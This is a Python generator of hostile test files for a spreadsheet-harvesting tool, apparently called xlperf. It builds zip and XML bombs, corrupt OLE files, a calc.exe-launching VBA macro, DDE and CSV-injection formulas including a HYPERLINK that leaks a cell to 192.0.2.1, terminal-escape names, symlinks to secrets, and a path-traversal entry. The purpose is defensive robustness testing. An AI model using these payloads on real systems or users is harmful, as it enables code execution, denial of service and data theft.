    add("xml_lol_utf16.xlsx", raw_xlsx([("S", "x")], extra={"xl/worksheets/sheet1.xml": utf16}), "refused",
        "billion laughs in a UTF-16 sheet")
    add("xml_unique_count.xlsx", raw_xlsx([("S", s2)], shared=f'<sst {_NS} count="4000000000" uniqueCount="4000000000">'
                                                             '<si><t>x</t></si></sst>'), "refused",
        "sharedStrings uniqueCount of 4e9 (calamine would reserve 96 GB)")
    add("xml_malformed.xlsx", raw_xlsx([("S", sheet_xml(grid)[:-40])]), "refused", "sheet XML cut short")
    add("xml_bad_utf8.xlsx", raw_xlsx([("S", "x")], extra={"xl/worksheets/sheet1.xml":
                                                            sheet_xml(grid).encode() .replace("安全".encode(), b"\xff\xfe")}),
        "any", "invalid UTF-8 in a sheet")
    deep = sheet_xml(grid).replace("</sheetData>", "</sheetData>" + "<extLst>" * 20000 + "</extLst>" * 20000)
    add("xml_deep_nesting.xlsx", raw_xlsx([("S", deep)]), "any", "20000 nested elements")

    # -- sheet extents
    add("dimension_xfd.xlsx", raw_xlsx([("S", sheet_xml(grid, dimension="A1:XFD1048576"))]), "harvested",
        "declared dimension A1:XFD1048576, few cells")
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    add("far_corner.xlsx", raw_xlsx([("S", sheet_xml(grid, extra_rows=far))]), "refused",
        "cells at A1 and XFD1048576 (550 GB dense range)")
    add("far_corner_second_sheet.xlsx", raw_xlsx([("表", sheet_xml(grid)), ("坏", sheet_xml([["x"]], extra_rows=far))]),
        "harvested", "good sheet plus a far-corner sheet (skipped)")
    odd = '<row r="1048576"><c s="0" t="inlineStr" r="XFD1048576"><is><t>x</t></is></c></row>'
    add("far_corner_attr_order.xlsx", raw_xlsx([("S", sheet_xml(grid, extra_rows=odd))]), "refused",
        "far cell with r not first (slow path)")
    quoted = "<row r=\"1048576\"><c t='inlineStr' r='XFD1048576'><is><t>x</t></is></c></row>"
    add("far_corner_single_quotes.xlsx", raw_xlsx([("S", sheet_xml(grid, extra_rows=quoted))]), "refused",
        "far cell with single-quoted attributes")
    gt = '<row r="1048576"><c foo="&gt;" r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    add("far_corner_entity_attr.xlsx", raw_xlsx([("S", sheet_xml(grid, extra_rows=gt))]), "refused",
        "far cell behind an escaped attribute")
    add("far_corner_prefixed.xlsx", raw_xlsx([("S", _prefixed(sheet_xml(grid, extra_rows=far)))]), "refused",
        "far cell in prefixed SpreadsheetML (<x:c>)")
    cdata = '<row r="9"><c r="J9" t="inlineStr"><is><t><![CDATA[<c r="XFD1048576">]]></t></is></c></row>'
    add("cdata_fake_cell.xlsx", raw_xlsx([("S", sheet_xml(grid, extra_rows=cdata))]), "any",
        "CDATA text that looks like a far cell (over-estimated: refusing is acceptable)")
    noref = "<row><c><v>1</v></c></row>" * 3
    add("cells_without_refs.xlsx", raw_xlsx([("S", sheet_xml(grid, extra_rows=noref))]), "harvested",
        "rows and cells without r attributes")
    wide = '<row r="2"><c r="XFD2"><v>1</v></c></row>'
    add("wide_row.xlsx", raw_xlsx([("S", sheet_xml(grid, extra_rows=wide))]), "harvested",
        "a cell in column XFD (16384 columns x 30 rows: under the area limit)")
    big_rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="inlineStr"><is><t>行{r}</t></is></c>'
                       f'<c r="C{r}"><v>{r * 1.5}</v></c></row>' for r in range(60, 100_060))
    add("rows_100k.xlsx", raw_xlsx([("S", sheet_xml(grid, extra_rows=big_rows))]), "harvested",
        "a form followed by 100,000 rows", warn="行")
    add("rows_100k_plain.xlsx", raw_xlsx([("S", sheet_xml([], extra_rows=big_rows))]), "refused",
        "100,000 rows and no form")
    huge_string = "".join(chr(rng.randrange(0x4E00, 0x9FA5)) for _ in range(1_000_000))
    add("huge_string.xlsx", raw_xlsx([("S", sheet_xml(grid + [[huge_string]]))]), "harvested",
        "one 3 MB cell of varied text after the form")
    add("huge_string_repetitive.xlsx", raw_xlsx([("S", sheet_xml(grid + [["长" * 3_000_000]]))]), "refused",
        "one 9 MB cell of one character (compression ratio 800:1)")
    add("many_sheets.xlsx", raw_xlsx([(f"S{i}", sheet_xml([["x", i]])) for i in range(250)]
                                     + [("表", sheet_xml(grid))]), "any", "251 sheets, the form last")

    # -- OLE: encrypted workbooks and hostile compound files
    wb_stream = biff_workbook({"自评表": grid})
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
        for i, pw in enumerate(("1234", "密码", "")):
            out = io.BytesIO()
            OOXMLFile(io.BytesIO(good)).encrypt(pw or "VelvetSweatshop", out)
            add(f"encrypted_msoffcrypto_{i}.xlsx", out.getvalue(), "refused", "Agile-encrypted xlsx",
                message="加密")
    except ImportError:
        pass
    for i, ext in enumerate((".xlsx", ".xlsm", ".xls")):
        add(f"encrypted_crafted_{i}{ext}", cfb({"EncryptionInfo": b"\x04\x00\x04\x00" + b"\x00" * 100,
                                                "EncryptedPackage": os.urandom(5000)}), "refused",
            "CFB with EncryptionInfo/EncryptedPackage", message="加密")
    filepass = _rec(0x002F, struct.pack("<H", 1) + b"\x00" * 52)
    add("encrypted_filepass.xls", cfb({"Workbook": biff_workbook({"S": grid}, extra_globals=filepass)}), "refused",
        "BIFF FILEPASS", message="加密")
    add("xls_good.xls", cfb({"Workbook": wb_stream}), "harvested", "a minimal BIFF8 form")
    add("xls_word.xls", cfb({"WordDocument": b"\x00" * 5000}), "refused", "a Word file renamed")
    add("xls_truncated_header.xls", cfb({"Workbook": wb_stream})[:300], "refused", "OLE header cut")
    whole = cfb({"Workbook": wb_stream})
    for i, cut in enumerate((600, 1024, 2048, len(whole) // 2, len(whole) - 100)):
        add(f"xls_truncated_{i}.xls", whole[:cut], "any", f"xls cut at {cut}")

    def cyc_dir(h, fat, d):
        fat[struct.unpack_from("<I", h, 0x30)[0]] = struct.unpack_from("<I", h, 0x30)[0]

    def cyc_stream(h, fat, d):
        start = struct.unpack_from("<I", d, 128 + 116)[0]
        fat[start + 2] = start

    def huge_fat_len(h, fat, d):
        struct.pack_into("<I", h, 0x2C, 0x7FFFFFFF)

    def weird62(h, fat, d):
        struct.pack_into("<II", h, 0x3C, 0xFFFFFFFE, 0xFFFF)

    def cyc_difat(h, fat, d):
        dir_start = struct.unpack_from("<I", h, 0x30)[0]
        struct.pack_into("<II", h, 0x44, dir_start, 1)   # the DIFAT chain starts at the directory sector ...
        struct.pack_into("<I", d, len(d) - 4, dir_start)  # ... whose last word points back at itself

    def huge_stream(h, fat, d):
        struct.pack_into("<Q", d, 128 + 120, 1 << 40)

    def bad_shift(h, fat, d):
        struct.pack_into("<H", h, 0x1E, 30)

    for i in range(15):
        data = bytearray(whole)
        for _ in range(1 + i % 3):
            pos = rng.randrange(0, len(data))
            data[pos] ^= 1 << rng.randrange(8)
        add(f"xls_flipped_{i:02d}.xls", bytes(data), "any", "xls with flipped bits")
    def cyc_ministream(h, fat, d):
        start = struct.unpack_from("<I", d, 128 + 116)[0]
        struct.pack_into("<II", h, 0x3C, start, 1)           # a mini FAT ...
        struct.pack_into("<IQ", d, 116, start, 4096)         # ... and a root mini stream running in a loop
        fat[start + 3] = start

    for fn in (cyc_dir, cyc_stream, huge_fat_len, weird62, cyc_difat, huge_stream, bad_shift, cyc_ministream):
        add(f"xls_{fn.__name__}.xls", cfb({"Workbook": wb_stream}, patch=fn), "refused", f"CFB {fn.__name__}")
    huge_dim = _rec(0x0200, struct.pack("<IIHHH", 0, 0xFFFFFFFF, 0, 255, 0))
    add("xls_dimension_huge.xls", cfb({"Workbook": biff_workbook({"S": grid}, dimensions=huge_dim)}), "refused",
        "DIMENSIONS of 4e9 x 255")
    inverted = _rec(0x0200, struct.pack("<IIHHH", 500, 10, 0, 8, 0))
    add("xls_dimension_inverted.xls", cfb({"Workbook": biff_workbook({"S": grid}, dimensions=inverted)}), "refused",
        "DIMENSIONS with last row before first")
    far_cell = _rec(0x0203, struct.pack("<HHHd", 65535, 255, 0, 1.0))
    add("xls_far_corner.xls", cfb({"Workbook": biff_workbook({"S": grid}, extra_sheet=far_cell)}), "refused",
        "BIFF cells at A1 and IV65536")
    add("xls_garbage_stream.xls", cfb({"Workbook": os.urandom(6000)}), "refused", "random Workbook stream")

    # -- not workbooks at all
    texts = {
        "text_utf8.xlsx": "项目名称,安全生产\n主管部门,卫健委\n".encode("utf-8"),
        "text_gbk.xlsx": "项目名称,安全生产\n主管部门,卫健委\n".encode("gbk"),
        "text_ascii.xlsx": b"hello world\n" * 100,
        "csv_renamed.xlsx": "项目名称,金额\nA,=cmd|' /C calc'!A0\n".encode("utf-8"),
        "html_renamed.xls": "<html><body><table><tr><td>项目名称</td></tr></table></body></html>".encode("utf-8"),
        "html_doctype.xls": b"<!DOCTYPE html><html><table></table></html>",
        "xml2003.xls": b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        "pdf_renamed.xlsx": b"%PDF-1.7\n" + os.urandom(2000),
        "png_renamed.xlsx": b"\x89PNG\r\n\x1a\n" + os.urandom(2000),
        "random_bytes.xlsx": os.urandom(4096),
        "utf16_text.xlsx": "项目名称\t安全生产".encode("utf-16"),
        "nul_bytes.xlsx": b"\x00" * 4096,
    }
    for name, data in texts.items():
        add(name, data, "refused", "not a workbook")

    # -- macros and external links (harvested; nothing runs or is fetched)
    ct_vba = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    vba = b"Attribute VB_Name = \"ThisWorkbook\"\nSub Workbook_Open()\nShell \"calc.exe\"\nEnd Sub\n" * 20
    for i in range(3):
        data = raw_xlsx([("自评表", sheet_xml(grid))], macro=True,
                        extra={"xl/vbaProject.bin": vba, "[Content_Types].xml":
                               _CT.format(over=ct_vba + '<Override PartName="/xl/workbook.xml" ContentType="application/'
                                          'vnd.ms-excel.sheet.macroEnabled.main+xml"/>')})
        add(f"macro_{i}.xlsm", data, "harvested", "vbaProject.bin present", info="宏")
    for i, target in enumerate(("file:///C:/secret/budget.xlsx", "http://192.0.2.1/x.xlsx",
                                "\\\\192.0.2.1\\share\\x.xlsx")):
        link = (f'<?xml version="1.0" encoding="UTF-8"?>\n<externalLink {_NS}><externalBook {_RNS} r:id="rId1">'
                f'<sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>')
        rels = ('<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/'
                f'package/2006/relationships"><Relationship Id="rId1" Type="{_REL_T}externalLinkPath" '
                f'Target="{escape(target)}" TargetMode="External"/></Relationships>')
        g2 = [row[:] for row in grid]
        g2[6][3] = Formula("[1]S!A1*1", 15.0)
        data = raw_xlsx([("自评表", sheet_xml(g2))], extra={"xl/externalLinks/externalLink1.xml": link,
                                                          "xl/externalLinks/_rels/externalLink1.xml.rels": rels})
        add(f"external_link_{i}.xlsx", data, "harvested", f"external link to {target}", info="外部链接")

    # -- formulas and formula-like text everywhere (read as values/text, never evaluated)
    evil = ["=HYPERLINK(\"http://192.0.2.1/?leak=\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=WEBSERVICE(\"http://192.0.2.1/\")", "-2+3+cmd|' /C notepad'!A0", "=1+1", "=INDIRECT(\"A1\")"]
    for i, text in enumerate(evil):
        g2 = [row[:] for row in grid]
        g2[2][2] = text                       # 项目名称 as text
        g2[16][5] = text                      # an actual value as text
        g2[16][7] = text                      # a score as text
        add(f"formula_text_{i}.xlsx", raw_xlsx([("自评表", sheet_xml(g2))]), "harvested",
            f"formula-like text {text!r}", project_name=text, score_none=4)
    for i, text in enumerate(evil):
        g2 = [row[:] for row in grid]
        g2[2][2] = Formula(text, None)        # no cached value: reads empty, never 2
        g2[5][5] = Formula("=1+1", None)      # 年度资金总额 全年执行数: no cached value
        g2[16][7] = Formula(text, 7.0)        # cached value is what is read
        g2[16][5] = Formula(text, "缓存文字")
        add(f"formula_cells_{i}.xlsx", raw_xlsx([("自评表", sheet_xml(g2))]), "harvested",
            f"formula cells {text!r}", executed_none=True, cached_score=4)

    # -- wrong types in every field
    junk = {"bool": True, "number": 12345.678, "date": dt.date(2023, 1, 1), "neg": -1e308,
            "long": "字" * 40000, "ctrl": "a\x01b\x1fc", "emoji": "😀" * 50, "error": Formula("=1/0", None),
            "html": "<script>alert(1)</script><p>x</p>", "spaces": "   ", "tiny": 1e-300, "int": 7}
    for tag, value in junk.items():
        g2 = [[value if (isinstance(v, str) and not _is_label_text(v)) or isinstance(v, (int, float)) else v
               for v in row] for row in grid]
        add(f"types_{tag}.xlsx", raw_xlsx([("自评表", sheet_xml(g2))]), "any" if tag == "long" else "harvested",
            f"every value is {tag}")
    g2 = [row[:] for row in grid]
    for r, row in enumerate(g2):
        for c, v in enumerate(row):
            if isinstance(v, str) and not _is_label_text(v):
                g2[r][c] = list(junk.values())[(r + c) % len(junk)]
    add("types_mixed.xlsx", raw_xlsx([("自评表", sheet_xml(g2))]), "harvested", "mixed wrong types")
    add("types_mixed.xls", cfb({"Workbook": biff_workbook({"S": [[v if isinstance(v, (str, float, int)) and
                                                                    not isinstance(v, bool) else "x" for v in row]
                                                                   for row in g2]})}), "any", "mixed types in xls")

    # -- odd but valid structure
    add("empty_sheet.xlsx", raw_xlsx([("S", sheet_xml([]))]), "refused", "no cells at all")
    add("labels_only.xlsx", raw_xlsx([("S", sheet_xml([[v if isinstance(v, str) and _is_label_text(v) else None
                                                        for v in row] for row in grid]))]), "harvested",
        "labels without values")
    add("prefixed_ns.xlsx", raw_xlsx([("S", _prefixed(sheet_xml(grid)))]), "any", "SpreadsheetML with x: prefix")
    add("sheet_name_weird.xlsx", raw_xlsx([("'<>&\"%s😀", sheet_xml(grid))]), "harvested", "odd sheet name")
    add("absolute_paths.xlsx", _rename_parts(good), "any", "zip entries with absolute-looking names")

    # -- issue 17/18 (second probe): a form must not hide itself as xlperf's own 汇总.xlsx
    add("hiding_as_summary.xlsx", hiding_as_summary(grid), "harvested",
        "empty 项目汇总/指标明细/检查结果 sheets next to a real form", info="汇总表")
    add("hiding_fake_marker.xlsx", hiding_as_summary(grid, token="0" * 64), "harvested",
        "summary sheet names plus a made-up xlperf_marker property", info="汇总表")
    # -- terminal injection through a project name and a file name (#17.7)
    add("terminal_escapes.xlsx", form_with_name(grid, TERMINAL_NAME), "harvested",
        "ANSI/OSC escapes, CR and a bidi override in the project name")
    add("\x1b]0;标题\x07\x1b[2K\u202e名.xlsx", good, "harvested", "escapes in the file name")

    # -- extreme numbers: per-cell findings, never decimal.InvalidOperation (#17.1, #18.2)
    for tag, (r, c, value) in EXTREME_VALUES.items():
        g2 = [row[:] for row in grid]
        g2[r][c] = value
        add(f"extreme_{tag}.xlsx", raw_xlsx([("自评表", sheet_xml(g2))]), "harvested",
            f"extreme value {value!r} at row {r + 1} col {c + 1}", warn="合理范围")
    # -- a file name that is not UTF-8: GBK bytes, as unzip leaves Chinese Windows names (#17.1)
    if os.name == "posix":
        add(os.fsdecode("自评表_中文名".encode("gbk") + b".xlsx"), good, "harvested", "GBK file name",
            info="UTF-8")
    # -- CSV injection after normalisation (#18.7): project names a spreadsheet folds into formulas
    for i, text in enumerate(CSV_EVIL):
        add(f"csv_evil_{i}.xlsx", form_with_name(grid, text), "harvested", f"CSV-hostile name {text!r}")
    # -- dense-allocation dodges: references the fast scan did not read, parts named as images (#18.3)
    for tag, xml in dense_dodges(grid).items():
        add(f"dense_{tag}.xlsx", xml, "refused", f"dense-allocation dodge: {tag}")
    # -- odd values: a cached formula error, NaN and infinity read as blank must be said (#18.6)
    err_xml = sheet_xml(grid).replace('<c r="F6" t="inlineStr"><is><t xml:space="preserve">9.53</t></is></c>',
                                      '<c r="F6" t="e"><f>1/0</f><v>#DIV/0!</v></c>')
    add("odd_cached_error.xlsx", raw_xlsx([("自评表", err_xml)]), "harvested", "cached #DIV/0! in 全年执行数",
        warn="公式错误值")
    g2 = [row[:] for row in grid]
    g2[5][5], g2[5][4] = float("nan"), float("inf")
    add("odd_nan_inf.xlsx", raw_xlsx([("自评表", sheet_xml(g2))]), "harvested", "NaN and inf amounts", warn="无效")
    add("odd_nul_zero_width.xlsx", form_with(grid, {(3, 7): LOOK_ALIKE_UNITS[2], (2, 2): "项目\u200b\x00名\u202e"}),
        "harvested", "NUL, zero-width and RTL characters in names")
    # -- the same project three times over, and an older version of it (#17.8)
    for name, data, _mtime in duplicate_files(grid):
        add(name, data, "harvested", "a duplicate of one project")
    return cases


def dense_dodges(grid) -> dict[str, bytes]:
    """Files whose few cells span a huge rectangle, written so that a scan limited to 3-letter
    columns, 7-digit rows or ``.xml`` part names would miss it (#18.3). Each must be refused
    (or its sheet skipped) before any reader allocates the rectangle."""
    def far(ref):
        return f'<row r="{re.sub("[A-Z]", "", ref)}"><c r="{ref}"><v>1</v></c></row>'
    out = {
        "four_letter_column": raw_xlsx([("S", sheet_xml(grid, extra_rows=far("ZZZZ40")))]),
        "eight_digit_row": raw_xlsx([("S", sheet_xml(grid, extra_rows=far("I99999999")))]),
        "row_attr_only": raw_xlsx([("S", sheet_xml(grid, extra_rows='<row r="99999999"><c><v>1</v></c></row>'))]),
    }
    for suffix in (".png", ".bin"):
        data = raw_xlsx([("S", sheet_xml(grid, extra_rows=far("XFD1048576")))])
        out[f"sheet_named{suffix.replace('.', '_')}"] = _rename_part(data, "xl/worksheets/sheet1.xml",
                                                                     "xl/worksheets/sheet1" + suffix)
    return out


def _rename_part(data: bytes, old: str, new: str) -> bytes:
    """Move a part and every reference to it (workbook relationships, content types)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    parts[new] = parts.pop(old)
    for name in list(parts):
        if name.endswith((".rels", "[Content_Types].xml")):
            parts[name] = parts[name].replace(old.split("/", 1)[1].encode(), new.split("/", 1)[1].encode())
    return _zip(parts)


#: Four spellings of two units: zero-width space, right-to-left override, NUL (#18.6).
LOOK_ALIKE_UNITS = ["上海市保健事务中心", "上海市保健\u200b事务中心", "上海市保健事务中心\x00",
                    "上海市保健事务中心（分部）", "\u202e上海市保健事务中心（分部）"]


SECRET = b"SECRET-TOKEN-0123456789"


def plant_links(root: Path) -> list[Case]:
    """Links inside ``root`` (#18.4): to a workbook and to a secret text file outside it, to
    /dev/zero, and one to a form inside ``root`` (read as usual). Outside links give ``link``:
    not read, one 提示 — no summary row from outside and none of the secret's bytes."""
    if not hasattr(os, "symlink"):
        return []
    outside = root.parent / f"{root.name}_outside"
    outside.mkdir(exist_ok=True)
    (outside / "外部.xlsx").write_bytes(raw_xlsx([("自评表", sheet_xml(small_form_grid("外部项目")))]))
    (outside / "secret.txt").write_bytes(SECRET)
    cases = []
    for name, target in (("link_outside_form.xlsx", outside / "外部.xlsx"),
                         ("link_outside_secret.xlsx", outside / "secret.txt"),
                         ("link_dev_zero.xlsx", Path("/dev/zero"))):
        (root / name).symlink_to(target)
        cases.append(Case(root / name, "link", f"symlink to {target}"))
    (root / "link_inside.xlsx").symlink_to(root / "xls_good.xls")
    cases.append(Case(root / "link_inside.xlsx", "harvested", "symlink to a form inside the folder"))
    return cases


def duplicate_files(grid) -> list[tuple[str, bytes, int]]:
    """(name, bytes, mtime): an older version of a form (other 全年执行数, zero-width space and
    full-width letters in its unit), two byte-identical copies of the final version, and the
    final version itself, last modified — the one a harvest keeps (#17.8)."""
    final = raw_xlsx([("自评表", sheet_xml(grid))])
    old = [row[:] for row in grid]
    old[5][5] = "9.00"
    old[3][7] = "上海市保健\u200b事务中心"
    older = raw_xlsx([("自评表", sheet_xml(old))])
    return [("dup_0_旧版.xlsx", older, 1_600_000_000), ("dup_1_副本.xlsx", final, 1_600_000_100),
            ("dup_2_副本 (2).xlsx", final, 1_600_000_100), ("dup_3_终版.xlsx", final, 1_700_000_000)]


#: Texts that a spreadsheet opening a CSV evaluates once it has folded full-width forms and
#: skipped BOM / zero-width / bidi characters (#18.7).
CSV_EVIL = ["＝HYPERLINK(\"http://192.0.2.1/\",\"点\")", "\ufeff=1+1", "\u200b+cmd|' /C calc'!A0", "﹦1+1",
            "－2+3+cmd|' /C calc'!A0", "＠SUM(1+1)", "\u202e=1+1", "\u3000=1+1"]


#: (row, col, value) on :func:`small_form_grid` — F6 全年执行数, E6 全年预算数, G7 分数,
#: H6 执行率, G13 an indicator's 分值 — each outside any form's range (#18.2).
EXTREME_VALUES = {
    "executed_30_digits": (5, 5, "1" * 30), "executed_26_digits_number": (5, 5, 1.2345678901234567e25),
    "executed_1e308": (5, 5, 1e308), "executed_minus_1e308": (5, 5, -1e308),
    "weight_30_digits": (12, 6, "9" * 30), "funds_weight_30_digits": (5, 6, "9" * 30),
    "budget_tiny": (5, 4, 1e-300), "budget_tiny_text": (5, 4, "0." + "0" * 40 + "1"),
    "rate_1e300": (5, 7, 1e300), "score_5000_digits": (5, 8, "9" * 5000),
}


#: A project name that would retitle the window, erase the line and repaint it (#17.7).
TERMINAL_NAME = "\x1b]0;pwned\x07\x1b[2K\r  未发现问题。\x1b[8m隐藏\u202e反向\x9b31m"


def form_with_name(grid, name: str) -> bytes:
    return form_with(grid, {(2, 2): name})


def form_with(grid, texts: dict) -> bytes:
    """A form with the texts at (row, col) written as Excel writes any text, C0 controls (NUL,
    ESC…) included: as ``_xHHHH_`` (XML itself cannot hold them)."""
    g2 = [row[:] for row in grid]
    for i, pos in enumerate(texts):
        g2[pos[0]][pos[1]] = f"@@TEXT{i}@@"
    xml = sheet_xml(g2)
    for i, text in enumerate(texts.values()):
        ooxml = re.sub("[\x00-\x08\x0b-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", text)
        xml = xml.replace(f"@@TEXT{i}@@", escape(ooxml))
    return raw_xlsx([("自评表", xml)])


def hiding_as_summary(grid, token: str | None = None) -> bytes:
    """A form that carries empty sheets named like xlperf's 汇总.xlsx (and optionally a made-up
    marker property): it must be read, not skipped as our own output."""
    extra = {}
    if token is not None:
        extra["docProps/custom.xml"] = (
            '<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/'
            'officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/'
            '2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" '
            f'name="xlperf_marker"><vt:lpwstr>{token}</vt:lpwstr></property></Properties>')
    return raw_xlsx([("项目汇总", sheet_xml([])), ("指标明细", sheet_xml([])), ("检查结果", sheet_xml([])),
                     ("自评表", sheet_xml(grid))], extra=extra)


def _is_label_text(v: str) -> bool:
    from xlperf.harvest import _classify
    return bool(v) and _classify(v) is not None


def _zip(parts: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return buf.getvalue()


def _zip_raw(items: list[tuple[str, bytes]]) -> bytes:
    import warnings
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in items:
                z.writestr(name, data)
    return buf.getvalue()


def _copy_entries(good: bytes):
    with zipfile.ZipFile(io.BytesIO(good)) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def _bomb(good: bytes, name: str, megabytes: int) -> bytes:
    """``good`` plus one entry of ``megabytes`` MB of zeros, compressed cheaply chunk by chunk."""
    buf = io.BytesIO(good)
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as fh:
            chunk = b"\x00" * (1 << 20)
            for _ in range(megabytes):
                fh.write(chunk)
    return buf.getvalue()


def _lying_size(good: bytes) -> bytes:
    """A sheet entry whose headers declare 100 bytes but whose stream inflates to 5 MB."""
    entries = _copy_entries(good)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            if name == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b"</sheetData>" + b" " * 5_000_000)
            z.writestr(name, data)
    raw = bytearray(buf.getvalue())
    target = b"xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as z:
        struct.pack_into("<I", raw, z.getinfo(target.decode()).header_offset + 22, 100)   # local header
    pos = raw.find(b"PK\x01\x02")
    while pos >= 0:                                                                   # central directory
        nlen = struct.unpack_from("<H", raw, pos + 28)[0]
        if raw[pos + 46:pos + 46 + nlen] == target:
            struct.pack_into("<I", raw, pos + 24, 100)
        pos = raw.find(b"PK\x01\x02", pos + 4)
    return bytes(raw)


def _overlapping(good: bytes) -> bytes:
    """Many central-directory entries (unique names) pointing at one 2 MB compressed body."""
    buf = io.BytesIO()
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = body.compress(b"\x00" * (2 << 20)) + body.flush()
    crc = zlib.crc32(b"\x00" * (2 << 20))
    entries = _copy_entries(good)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, d in entries:
            z.writestr(name, d)
    raw = bytearray(buf.getvalue())
    eocd = raw.rfind(b"PK\x05\x06")
    cd_size, cd_off = struct.unpack_from("<II", raw, eocd + 12)
    cd = raw[cd_off:cd_off + cd_size]
    local_off = cd_off
    name = b"xl/media/z.bin"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), 2 << 20, len(name), 0) + name + data
    out = raw[:cd_off] + local
    new_cd = bytearray(cd)
    n = 0
    for i in range(60):
        nm = f"xl/media/z{i}.bin".encode()
        new_cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), 2 << 20,
                              len(nm), 0, 0, 0, 0, 0, local_off) + nm
        n += 1
    count = struct.unpack_from("<H", raw, eocd + 10)[0] + n
    out += new_cd + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(new_cd), len(raw[:cd_off]) + len(local), 0)
    return bytes(out)


def _set_encrypted_flag(good: bytes) -> bytes:
    raw = bytearray(good)
    pos = 0
    while True:
        pos = raw.find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        flags = struct.unpack_from("<H", raw, pos + 8)[0]
        struct.pack_into("<H", raw, pos + 8, flags | 1)
        pos += 4
    return bytes(raw)


def _prefixed(xml: str) -> str:
    xml = xml.replace(f"<worksheet {_NS}", '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"')
    return re.sub(r"<(/?)(worksheet|sheetData|row|c|v|is|t|dimension)\b", r"<\1x:\2", xml).replace(
        "<x:worksheet xmlns:x", "<x:worksheet xmlns:x", 1)


def _rename_parts(good: bytes) -> bytes:
    entries = _copy_entries(good)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            z.writestr("/" + name if name.startswith("docProps") else name, data)
        z.writestr("../../etc/evil.xml", b"<x/>")
    return buf.getvalue()


def summarize(cases: list[Case]) -> dict[str, int]:
    out: dict[str, int] = {}
    for c in cases:
        out[c.expect] = out.get(c.expect, 0) + 1
    return out


__all__ = ["load_seeds", "Variant", "VARIANTS", "expected_project", "comparable", "plan_form", "Plan",
           "write_seed_workbook", "raw_xlsx", "sheet_xml", "Formula", "cfb", "biff_workbook", "small_form_grid",
           "build_corpus", "Case", "summarize"]


# -- hostile project and unit names, for generate's file names (issue 18 item 8, issue 17 item 2):
# Windows device names (with extensions, superscript digits, trailing spaces), console devices,
# forbidden and invisible characters, a name past 255 bytes, names differing only in case.
HOSTILE_NAMES = ["CON", "con.xlsx", "NUL .txt", "COM¹", "LPT²", "COM³.xlsx", "CONIN$", "CONOUT$", "conin$.x",
                 "CLOCK$", "AUX", "prn.", "名称. . ", 'a<b>c:d"e/f\\g|h?i*j', "\x00\x07\x1b[2J", "零宽\u200b\u202e字",
                 "manifest.csv", "manifest.journal.csv", ".~xlperf-1-1.tmp", "很" * 79, "很" * 200,
                 "IT运维", "it运维", "It运维"]
